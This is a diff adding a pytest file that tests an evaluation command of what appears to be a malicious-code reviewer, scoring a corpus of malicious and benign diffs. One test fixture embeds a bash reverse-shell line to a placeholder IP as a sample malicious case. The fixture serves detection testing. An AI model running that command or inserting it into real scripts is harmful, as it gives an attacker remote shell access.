@@ -1,0 +1,70 @@
+"""`gatehouse eval` scores a corpus the way the corpus README says."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from reviewer.core.findings import Confidence, Finding, Severity
+from reviewer.eval import evaluate, hits_marked, load_corpus, summarise
+
+
+def finding(path: str, start: int, end: int | None = None) -> Finding:
+    return Finding("r", "exfiltration", Severity.HIGH, Confidence.HIGH, path, start, end or start, "m")
+
+
+def test_within_two_lines_of_a_marked_line_counts():
+    marked = {"a.py": [10, 11]}
+    assert hits_marked(finding("a.py", 12), marked)
+    assert hits_marked(finding("a.py", 13), marked)
+    assert not hits_marked(finding("a.py", 14), marked)
+    assert hits_marked(finding("a.py", 1, 8), marked)
+    assert not hits_marked(finding("b.py", 10), marked)
+
+
+def test_a_path_without_lines_means_the_whole_file():
+    assert hits_marked(finding("evil.sh", 400), {"evil.sh": []})
+
+
+def write_case(root: Path, case_id: str, diff: str, lines: list[int], categories: list[str]) -> None:
+    d = root / "malicious" / case_id
+    d.mkdir(parents=True)
+    (d / "change.diff").write_text(diff)
+    (d / "meta.json").write_text(json.dumps({"id": case_id, "categories": categories,
+                                             "malicious_lines": {"x.sh": lines}}))
+
+
+def test_corpus_scoring_end_to_end(tmp_path: Path):
+    shell = ("diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1,3 @@\n"
+             "+#!/bin/sh\n+echo hello\n+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
+    write_case(tmp_path, "shell", shell, [3], ["reverse-shell"])
+    benign = tmp_path / "benign" / "o__r"
+    benign.mkdir(parents=True)
+    (benign / "abc.diff").write_text(shell.replace("x.sh", "y.sh").replace("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "echo bye"))
+    (benign / "abc.json").write_text(json.dumps({"added_lines": 3}))
+    cases = load_corpus(tmp_path)
+    assert [c.malicious for c in cases] == [True, False]
+    results = evaluate(tmp_path, jobs=1)
+    s = summarise(results)
+    assert s["malicious_cases"] == 1 and s["benign_commits"] == 1 and s["benign_added_lines"] == 3
+    assert s["per_category"]["reverse-shell"]["cases"] == 1
+    assert s["noise_per_10k_lines"] == s["benign_medium_plus"] * 10000 / 3
+    assert 0.0 <= s["recall"] <= 1.0
+
+
+def test_not_a_corpus_is_a_clear_error(tmp_path: Path):
+    from reviewer.errors import GatehouseError
+
+    with pytest.raises(GatehouseError, match="not a corpus"):
+        load_corpus(tmp_path)
+
+
+@pytest.mark.corpus
+def test_eval_runs_on_the_shared_corpus(corpus_dir: Path):
+    results = evaluate(corpus_dir)
+    s = summarise(results)
+    assert s["malicious_cases"] >= 21 and s["benign_commits"] >= 400
+    assert s["benign_added_lines"] >= 20000
+    assert not s["errors"]
